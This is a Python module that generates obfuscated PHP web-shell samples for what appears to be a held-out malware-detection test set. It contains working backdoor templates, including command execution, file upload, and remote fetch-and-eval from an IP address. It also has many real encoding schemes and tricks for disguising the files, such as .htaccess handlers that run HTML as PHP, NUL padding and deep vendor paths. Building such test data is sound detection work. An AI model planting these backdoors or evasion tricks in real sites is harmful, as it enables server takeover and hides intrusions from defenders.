"""Shared bits of the sixth held-out set: its own encoders (pack/unpack
nibbles, sprintf builders, bit shifts and integer lists, strtr maps over
base64, character tables, gzip + rot13 + strrev chains, base_convert
chunks), the small inner payloads its loaders carry, and the containers the
other sets lack (a `.phar`/`.module`/`.inc` name, an `index.html` run as PHP,
a UTF-8 BOM, one very long line, a NUL-padded tail, a deep path). Names,
filler, images, Style and write_set come from the other sets' plumbing
(heldout5/common5.py, heldout4/common4.py, heldout3/common3.py).

Written blind (README.md): from knowledge of what compromised shared hosts
carry, without reading the detectors."""

import base64
import codecs
import gzip
import os
import sys
import zlib

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "heldout5"))

from common5 import (Style, big_plugin, dom, hexname, image_bytes, ip, plugin_header, rword, slug, sq,  # noqa: E402,F401
                     theme, wp_filler, core_class, write_set, b64, deflate_raw, gz, xor, rot13, crlf, chunks)

LOW = "abcdefghijklmnopqrstuvwxyz"


def word(r, a=4, b=8):
    return rword(r, r.randint(a, b), LOW)


def _bytes(s):
    return s if isinstance(s, bytes) else s.encode("utf-8")


# ---------------------------------------------------------------------------
# inner payloads (PHP without an open tag): what this set's loaders run


def inner(r):
    k = r.choice(("exec_json", "eval_hdr", "write_file", "proc_pipe", "remote_inc", "assert_cb"))
    p = word(r, 1, 3)
    if k == "exec_json":
        return ("$q = json_decode((string) file_get_contents('php://input'), true);\n"
                "if (is_array($q) && isset($q['%s'])) {\n"
                "    $out = [];\n    exec($q['%s'] . ' 2>&1', $out, $rc);\n"
                "    header('Content-Type: application/json');\n"
                "    echo json_encode(['rc' => $rc, 'o' => implode(\"\\n\", $out)]);\n    exit;\n}\n" % (p, p))
    if k == "eval_hdr":
        h = rword(r, 6, "ABCDEFGHIJKLMNOPQRSTUVWXYZ")
        return ("if (!empty($_SERVER['HTTP_%s'])) {\n    $c = base64_decode(strrev($_SERVER['HTTP_%s']));\n"
                "    eval($c);\n}\n" % (h, h))
    if k == "write_file":
        return ("if (isset($_POST['%s'], $_POST['b'])) {\n"
                "    $t = $_SERVER['DOCUMENT_ROOT'] . '/' . ltrim($_POST['%s'], '/');\n"
                "    @file_put_contents($t, base64_decode($_POST['b']));\n    echo is_file($t) ? md5_file($t) : '0';\n}\n" % (p, p))
    if k == "proc_pipe":
        return ("if (isset($_REQUEST['%s'])) {\n"
                "    $pp = proc_open($_REQUEST['%s'], [1 => ['pipe', 'w'], 2 => ['pipe', 'w']], $io);\n"
                "    echo stream_get_contents($io[1]), stream_get_contents($io[2]);\n    proc_close($pp);\n    die;\n}\n" % (p, p))
    if k == "remote_inc":
        return ("if (isset($_GET['%s']) && md5($_GET['%s']) === '%s') {\n"
                "    $s = @file_get_contents('http://%s/t/' . $_GET['%s'] . '.txt');\n"
                "    if ($s) { eval('?>' . $s); }\n}\n" % (p, p, hexname(r, 32), ip(r), p))
    return ("if (!empty($_COOKIE['%s'])) {\n    $f = 'as' . 'sert';\n"
            "    @array_map($f, [gzuncompress(base64_decode($_COOKIE['%s']))]);\n}\n" % (p, p))


# ---------------------------------------------------------------------------
# encoders: (prelude PHP, expression giving the code string), code is PHP
# without an open tag. Every one is a real encoding of the payload.


def enc_pack(r, S, code):
    """pack('H*') of the hex of a deflated body."""
    h = deflate_raw(code).hex()
    v = S.var()
    parts = chunks(h, r.choice((60, 80, 120)))
    pre = "%s = %s;" % (v, " .\n    ".join("'%s'" % p for p in parts))
    return pre, "%s(%s('H*', %s))" % (S.fn("gzinflate"), S.fn("pack"), v)


def enc_unpack_c(r, S, code):
    """unpack('C*') turned back into a string with chr and a key."""
    key = r.randint(3, 200)
    data = bytes((c + key) % 256 for c in _bytes(code))
    v, w, o = S.var(), S.var(), S.var()
    pre = ("%s = %s('C*', %s(%s));\n%s = '';\nforeach (%s as %s) { %s .= %s((%s - %d + 256) %% 256); }"
           % (v, S.fn("unpack"), S.fn("base64_decode"), sq(b64(data)), o, v, w, o, S.fn("chr"), w, key))
    return pre, o


def enc_sprintf(r, S, code):
    """A long sprintf('%c%c..') with the codes as arguments; a second pass
    of base64 so the line stays short."""
    s = b64(zlib.compress(_bytes(code)))
    nums = [ord(c) for c in s]
    v = S.var()
    rows = chunks(nums, 40)
    args = ",\n    ".join(", ".join(str(n) for n in row) for row in rows)
    pre = "%s = %s(%s, %s);" % (v, S.fn("sprintf"), sq("%c" * len(nums)), args)
    return pre, "%s(%s(%s))" % (S.fn("gzuncompress"), S.fn("base64_decode"), v)


def enc_vsprintf_pos(r, S, code):
    """vsprintf with positional %N$c and a shuffled table."""
    s = b64(_bytes(code))
    uniq = sorted(set(s))
    r.shuffle(uniq)
    fmt = "".join("%%%d$c" % (uniq.index(c) + 1) for c in s)
    v = S.var()
    pre = "%s = %s(%s, [%s]);" % (v, S.fn("vsprintf"), sq(fmt), ", ".join(str(ord(c)) for c in uniq))
    return pre, "%s(%s)" % (S.fn("base64_decode"), v)


def enc_shift(r, S, code):
    """integers ((byte ^ k) << n) | junk low bits, shifted back."""
    k, n = r.randint(1, 255), r.randint(2, 5)
    vals = [((c ^ k) << n) | r.randint(0, (1 << n) - 1) for c in _bytes(code)]
    v, o, x = S.var(), S.var(), S.var()
    rows = chunks(vals, 24)
    arr = "[\n    " + ",\n    ".join(", ".join(str(q) for q in row) for row in rows) + "\n]"
    pre = "%s = %s;\n%s = '';\nforeach (%s as %s) { %s .= %s(((%s >> %d) ^ %d) & 255); }" % (
        v, arr, o, v, x, o, S.fn("chr"), x, n, k)
    return pre, o


def enc_intlist(r, S, code):
    """a comma list of integers in one string, explode + array_map + chr,
    each value offset by its position."""
    raw = _bytes(b64(gz(code)))
    vals = [c + (i % 7) for i, c in enumerate(raw)]
    v = S.var()
    pre = ("%s = %s(',', %s);\n%s = %s('', %s(function ($n, $i) { return %s($n - ($i %% 7)); }, %s, %s(%s(%s))));"
           % (v, S.fn("explode"), sq(",".join(str(q) for q in vals)), v, S.fn("implode"), S.fn("array_map"),
              S.fn("chr"), v, S.fn("array_keys"), S.fn("array_values"), v))
    return pre, "%s(%s(%s))" % (S.fn("gzdecode"), S.fn("base64_decode"), v)


B64AL = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"


def enc_strtr_map(r, S, code):
    """base64 under a shuffled alphabet, put back with strtr(from, to)."""
    al = list(B64AL)
    r.shuffle(al)
    al = "".join(al)
    s = b64(deflate_raw(code)).rstrip("=")
    t = s.translate(str.maketrans(B64AL, al))
    v = S.var()
    pre = "%s = %s;" % (v, " .\n    ".join("'%s'" % p for p in chunks(t, 96)))
    return pre, "%s(%s(%s(%s, %s, %s)))" % (S.fn("gzinflate"), S.fn("base64_decode"), S.fn("strtr"), v, sq(al), sq(B64AL))


def enc_charmap(r, S, code):
    """a table of characters (str_split of a scrambled alphabet) and a list
    of indexes into it."""
    s = b64(_bytes(code))
    al = sorted(set(s))
    r.shuffle(al)
    idx = [al.index(c) for c in s]
    m, o = S.var(), S.var()
    rows = chunks(idx, 32)
    pre = "%s = %s(%s);\n%s = '';\nforeach ([%s] as $i) { %s .= %s[$i]; }" % (
        m, S.fn("str_split"), sq("".join(al)), o, ",\n    ".join(",".join(str(q) for q in row) for row in rows), o, m)
    return pre, "%s(%s)" % (S.fn("base64_decode"), o)


def enc_gzrot(r, S, code):
    """gzip, base64, strrev, rot13 (decoded in the reverse order)."""
    s = rot13(b64(gz(code))[::-1])
    v = S.var()
    pre = "%s = %s;" % (v, " .\n    ".join("'%s'" % p for p in chunks(s, 100)))
    return pre, "%s(%s(%s(%s(%s))))" % (S.fn("gzdecode"), S.fn("base64_decode"), S.fn("strrev"),
                                         S.fn("str_rot13"), v)


def enc_baseconv(r, S, code):
    """base36 chunks of three bytes each, base_convert back to hex."""
    b = _bytes(code)
    while len(b) % 3:
        b += b" "
    vals = [format(int(b[i:i + 3].hex(), 16), "x") for i in range(0, len(b), 3)]
    b36 = []
    for h in vals:
        n = int(h, 16)
        d = ""
        while True:
            n, m = divmod(n, 36)
            d = "0123456789abcdefghijklmnopqrstuvwxyz"[m] + d
            if n == 0:
                break
        b36.append(d)
    v, o = S.var(), S.var()
    pre = ("%s = '';\nforeach (%s('.', %s) as %s) {\n    %s .= %s(%s(%s(%s, 36, 16), 6, '0', STR_PAD_LEFT));\n}"
           % (o, S.fn("explode"), sq(".".join(b36)), v, o, S.fn("hex2bin"), S.fn("str_pad"), S.fn("base_convert"), v))
    pre += "\n%s = %s(%s);" % (o, S.fn("rtrim"), o)
    return pre, o


def enc_xor_b64_rev(r, S, code):
    """XOR with a word key, base64, reversed; the key is a constant."""
    key = word(r, 5, 12)
    s = b64(xor(code, key))[::-1]
    v, k, o = S.var(), S.var(), S.var()
    pre = ("%s = %s(%s(%s));\n%s = %s;\n%s = '';\nfor ($i = 0, $n = %s(%s); $i < $n; $i++) {\n"
           "    %s .= %s[$i] ^ %s[$i %% %s(%s)];\n}" % (v, S.fn("base64_decode"), S.fn("strrev"), sq(s), k, sq(key), o,
                                                   S.fn("strlen"), v, o, v, k, S.fn("strlen"), k))
    return pre, o


ENCODERS = {
    "pack_hex": enc_pack, "unpack_bytes": enc_unpack_c, "sprintf_chars": enc_sprintf, "vsprintf_pos": enc_vsprintf_pos,
    "shift_ints": enc_shift, "int_list": enc_intlist, "strtr_alphabet": enc_strtr_map, "char_table": enc_charmap,
    "gzip_rot_rev": enc_gzrot, "base36_chunks": enc_baseconv, "xor_b64_rev": enc_xor_b64_rev,
}


def run_expr(r, S, expr):
    """A way of running a code string."""
    k = r.choice(("eval", "eval_tag", "tmp_include", "closure"))
    if k == "eval":
        return "%s(%s);" % ("@eval" if S.at else "eval", expr)
    if k == "eval_tag":
        return "eval('?>' . '<?php ' . %s);" % expr
    if k == "tmp_include":
        f = S.var()
        return ("%s = %s(%s(), %s);\n%s(%s, '<?php ' . %s);\ninclude %s;\n%s(%s);"
                % (f, S.fn("tempnam"), S.fn("sys_get_temp_dir"), sq(word(r, 2, 4)), S.fn("file_put_contents"), f, expr,
                   f, S.fn("unlink"), f))
    return "$fn = function () { return eval(func_get_arg(0)); };\n$fn(%s);" % expr


def encoded(r, S, code, enc=None):
    """(name of the encoder, PHP body without open tag running code)."""
    name = enc or r.choice(sorted(ENCODERS))
    pre, expr = ENCODERS[name](r, S, code)
    return name, pre + "\n" + run_expr(r, S, expr) + "\n"


# ---------------------------------------------------------------------------
# containers of this set


DEEP = ("wp-content/plugins/%s/vendor/composer/installers/src/Composer/Installers/%s",
        "vendor/symfony/polyfill-mbstring/Resources/unidata/%s",
        "wp-content/themes/%s/assets/vendor/fontawesome/webfonts/%s",
        "components/com_%s/helpers/html/legacy/%s", "app/code/%s/Block/Adminhtml/System/Config/%s",
        "storage/framework/views/cache/%s/%s", "modules/%s/views/templates/hook/%s")

DIRS = ("wp-content/uploads/%d/%02d", "wp-content/plugins/%s", "wp-content/themes/%s/inc", "wp-includes/sodium_compat/src",
        "wp-admin/includes", "images", "tmp", "cache", "libraries/vendor", "sites/all/modules/%s", "app/etc",
        "system/library", "catalog/view/theme/default", "assets", "media/editors", "admin/controller/extension")


def dir_for(r):
    d = r.choice(DIRS)
    if d.startswith("wp-content/uploads"):
        return d % (r.randint(2018, 2026), r.randint(1, 12))
    if "%s" in d:
        return d % (slug(r) if "plugins" in d else word(r, 4, 9) if "modules" in d else theme(r))
    return d


NAMES = ("class-wp-sitemaps-cache", "loader", "compat", "bootstrap", "helpers", "config-sample", "l10n", "functions-ext",
         "cron-runner", "polyfill", "sodium-fallback", "mod_stats", "autoload_psr", "http-client", "rest-controller",
         "locale-map", "widget-cache", "settings-api", "uninstall", "class-ajax")


def fname(r, ext=".php"):
    n = r.choice(NAMES)
    if r.random() < 0.3:
        n += "-" + word(r, 2, 5)
    return n + ext


def deep_dir(r):
    d = r.choice(DEEP)
    n = d.count("%s")
    vals = [slug(r) if "plugins" in d else word(r, 4, 8)] + [word(r, 3, 7) for _ in range(n - 1)]
    if "themes" in d:
        vals[0] = theme(r)
    return d % tuple(vals[:n])


def long_line(code):
    """the whole file on one line: comments dropped, newlines to spaces
    (strings in this set's code never hold a newline of their own)."""
    out = []
    for ln in code.split("\n"):
        s = ln.strip()
        if not s or s.startswith("//") or s.startswith("# "):
            continue
        out.append(s)
    return " ".join(out)


CONTAINERS = ("plain", "plain", "phar-ext", "module-ext", "inc-ext", "bom", "long-line", "nul-tail", "deep-path",
              "html-addtype", "crlf")


def place(r, body, allowed=CONTAINERS, open_tag="<?php"):
    """body: PHP without an open tag. Returns ([(rel, bytes-or-str, lang)], container)."""
    cont = r.choice(allowed)
    d = dir_for(r)
    code = open_tag + "\n" + body
    if cont == "phar-ext":
        return [("%s/%s" % (d, fname(r, r.choice((".phar", ".phar.php", ".phtml")))), code, "php")], cont
    if cont == "module-ext":
        return [("sites/all/modules/%s/%s" % (word(r, 4, 9), fname(r, r.choice((".module", ".install", ".theme")))),
                 code, "php")], cont
    if cont == "inc-ext":
        return [("%s/%s" % (d, fname(r, r.choice((".inc", ".inc.php", ".class.inc", ".tpl")))), code, "php")], cont
    if cont == "bom":
        return [("%s/%s" % (d, fname(r)), b"\xef\xbb\xbf" + code.encode("utf-8"), "php")], cont
    if cont == "long-line":
        return [("%s/%s" % (d, fname(r)), open_tag + " " + long_line(body) + "\n", "php")], cont
    if cont == "nul-tail":
        pad = b"\x00" * r.randint(512, 6000)
        return [("%s/%s" % (d, fname(r)), code.encode("utf-8") + "\n?>".encode() + pad, "php")], cont
    if cont == "deep-path":
        return [("%s/%s" % (deep_dir(r), fname(r)), code, "php")], cont
    if cont == "html-addtype":
        ext = r.choice((".html", ".htm", ".shtml"))
        hd = r.choice(("", "blog/", "promo/", "old/"))
        ht = r.choice(("AddType application/x-httpd-php %s\n" % ext,
                       "AddHandler application/x-httpd-php %s\n" % ext,
                       "<FilesMatch \"\\%s$\">\n    SetHandler application/x-httpd-php\n</FilesMatch>\n" % ext,
                       "AddHandler application/x-httpd-ea-php74 %s .php\n" % ext))
        page = ("<!DOCTYPE html>\n<html lang=\"en\">\n<head><meta charset=\"utf-8\"><title>%s</title></head>\n<body>\n"
                % r.choice(("Welcome", "Coming soon", "Our services", "Home")))
        html = page + code + "\n?>\n<p>%s</p>\n</body>\n</html>\n" % r.choice(("Site under construction.", "Thank you for visiting."))
        return [(hd + ".htaccess", "Options -Indexes\n" + ht, "htaccess"),
                (hd + "index" + ext, html, "php")], cont
    if cont == "crlf":
        return [("%s/%s" % (d, fname(r)), crlf(code), "php")], cont
    return [("%s/%s" % (d, fname(r)), code, "php")], "plain"


# ---------------------------------------------------------------------------
# small helpers for kits


def esc_js(s):
    return s.replace("\\", "\\\\").replace("'", "\\'")


def php_arr(items):
    return "[" + ", ".join(sq(x) for x in items) + "]"


def mo_file(pairs):
    """A GNU gettext .mo file (little-endian) of (msgid, msgstr) pairs."""
    import struct
    pairs = sorted((_bytes(a), _bytes(b)) for a, b in pairs)
    n = len(pairs)
    o_ids, o_strs = 28, 28 + n * 8
    base = 28 + n * 16
    ids = b""
    strs = b""
    tids, tstrs = [], []
    for a, _ in pairs:
        tids.append((len(a), base + len(ids)))
        ids += a + b"\x00"
    sbase = base + len(ids)
    for _, b in pairs:
        tstrs.append((len(b), sbase + len(strs)))
        strs += b + b"\x00"
    head = struct.pack("<IIIIIII", 0x950412de, 0, n, o_ids, o_strs, 0, 0)
    return head + b"".join(struct.pack("<II", *t) for t in tids) + b"".join(struct.pack("<II", *t) for t in tstrs) + ids + strs


__all__ = [n for n in dir() if not n.startswith("__")] + ["codecs", "base64", "gzip"]


def T(s, **kw):
    """Fill {{name}} slots (templates hold PHP/JS braces and percent signs)."""
    for k, v in kw.items():
        s = s.replace("{{%s}}" % k, str(v))
    if "{{" in s:
        raise ValueError("unfilled slot in template: " + s[s.index("{{"):s.index("{{") + 30])
    return s
